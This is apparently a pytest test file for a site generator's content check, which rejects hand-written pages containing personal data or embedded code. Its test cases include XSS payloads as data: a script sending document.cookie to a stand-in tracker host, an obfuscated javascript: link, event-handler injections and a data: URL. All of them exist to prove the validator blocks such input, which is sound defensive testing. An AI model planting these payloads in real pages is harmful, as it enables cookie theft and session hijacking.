"""Hand-written pages (content/pages/) are content, not code, and checked at input (issue 12, items 4 and 6)."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from generator.edges import cli

from .conftest import CONTENT

HANDWRITTEN = {
    "nik": ("Daftar penerima: Yosef, NIK 5371031234560001.", "5***"),
    "phone in an entity": ("Hubungi &#48;812-3456-7890 untuk info.", "0***"),
    "phone in a link": ('<a href="tel:%2B6281234567890">telepon</a>', "+***"),
    "script": ("<script>fetch('https://pelacak.example/?u=' + document.cookie)</script>", "<script>"),
    "iframe": ('<iframe src="https://peta.example/embed"></iframe>', "<iframe>"),
    "object": ('<object data="x.swf"></object>', "<object>"),
    "embed": ('<embed src="x.swf">', "<embed>"),
    "form": ('<form action="https://kumpul.example/"><input name="nik"></form>', "<form>"),
    "style fetching": ("<style>body { background: url(https://pelacak.example/p.gif) }</style>", "<style> url("),
    "event handler": ('<img src="foto.jpg" onerror="alert(1)">', "onerror"),
    "javascript link": ('<a href="jav&#x09;ascript:alert(1)">klik</a>', "href=javascript:"),
    "markdown javascript link": ("[klik](javascript:alert(1))", "javascript:"),
    "data link": ('<a href="data:text/html,<script>x</script>">klik</a>', "href=data:"),
    "picture from another host": ('<img src="https://pelacak.example/p.gif">', "src=https://pelacak.example/p.gif"),
    "markdown picture from another host": ("![peta](https://peta.example/kupang.png)", "https://peta.example/kupang.png"),
    "srcset from another host": ('<img src="a.jpg" srcset="a.jpg 1x, //cdn.example/a.jpg 2x">', "srcset="),
}


@pytest.mark.parametrize("case", HANDWRITTEN)
def test_check_refuses_a_hand_written_page_with_personal_data_or_code(tmp_path: Path, capsys, case: str) -> None:
    text, said = HANDWRITTEN[case]
    content = tmp_path / "content"
    shutil.copytree(CONTENT, content)
    (content / "pages" / "x.md").write_text(f"# Tentang\n\nHalo.\n{text}\n", encoding="utf-8")
    assert cli.main(["check", "--content", str(content)]) == 1
    err = capsys.readouterr().err
    assert f"pages/x.md:4: " in err and said in err, err
    # The refused value is pointed at, never printed.
    assert "5371031234560001" not in err and "3456-7890" not in err and "6281234567890" not in err


def test_safe_html_and_links_to_other_sites_pass(tmp_path: Path, capsys) -> None:
    content = tmp_path / "content"
    shutil.copytree(CONTENT, content)
    (content / "pages" / "x.md").write_text(
        "# Tentang\n\n<div class=\"catatan\" markdown>Lihat <a href=\"https://kemensos.go.id/\">Kemensos</a>.</div>\n\n"
        "![Kantor](kantor.jpg) [Peraturan](https://jdih.kupangkota.go.id/perda-3-2023)\n\n"
        "```html\n<script>contoh()</script>\n```\n\nKode `<iframe>` ditulis sebagai teks.\n", encoding="utf-8")
    assert cli.main(["check", "--content", str(content)]) == 0, capsys.readouterr().err


def test_a_photo_or_document_among_the_hand_written_pages_is_refused(tmp_path: Path, capsys) -> None:
    # MkDocs would publish it byte for byte: a photo with its GPS position, a PDF with whatever it holds.
    from PIL import Image

    content = tmp_path / "content"
    shutil.copytree(CONTENT, content)
    exif = Image.Exif()
    exif[0x013B] = "Humas"  # Artist
    Image.new("RGB", (8, 8)).save(content / "pages" / "foto.jpg", exif=exif)
    (content / "pages" / "laporan.pdf").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n")
    assert cli.main(["check", "--content", str(content)]) == 1
    err = capsys.readouterr().err
    for name in ("foto.jpg", "laporan.pdf"):
        assert f"pages/{name}: Berkas ini bukan teks (foto, PDF, atau dokumen Office)" in err


def test_a_hand_written_page_naming_a_recipient_who_did_not_consent_is_refused(tmp_path: Path, capsys) -> None:
    content = tmp_path / "content"
    shutil.copytree(CONTENT, content)
    event = content / "events" / "2025-09-03-bangun-ntt-kupang.yml"
    event.write_text(event.read_text(encoding="utf-8").replace("  publish_names: true ", "  publish_names: false ", 1), encoding="utf-8")
    page = content / "pages" / "cerita.md"
    page.write_text("# Cerita\n\nTerima kasih kepada\nBapak Jonathan-Agustinus Tali dari Kelapa Lima.\n", encoding="utf-8")
    assert cli.main(["check", "--content", str(content)]) == 1
    err = capsys.readouterr().err
    assert "pages/cerita.md:4: Halaman ini menyebut nama penerima" in err
    assert "Jonathan Agustinus Tali" not in err and "Jonathan-Agustinus" not in err
    # With the recipients' consent the page may thank them by name.
    event.write_text(event.read_text(encoding="utf-8").replace("  publish_names: false ", "  publish_names: true ", 1), encoding="utf-8")
    assert cli.main(["check", "--content", str(content)]) == 0


@pytest.mark.parametrize(("name", "text", "said"), [
    ("lama.html", "<p>Arsip</p><script>document.write('x')</script>", "HTML yang tidak diizinkan"),
    ("peta.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>Peta</text></svg>', "HTML yang tidak diizinkan"),
    ("tambahan.js", "fetch('https://pelacak.example/')", "Berkas skrip atau gaya"),
    ("gaya.css", "body { background: url(https://pelacak.example/p.gif) }", "Berkas skrip atau gaya"),
])
def test_code_in_any_hand_written_file_is_refused_not_only_in_markdown(tmp_path: Path, capsys, name: str, text: str, said: str) -> None:
    content = tmp_path / "content"
    shutil.copytree(CONTENT, content)
    (content / "pages" / name).write_text(text, encoding="utf-8")
    assert cli.main(["check", "--content", str(content)]) == 1
    assert f"pages/{name}" in (err := capsys.readouterr().err) and said in err
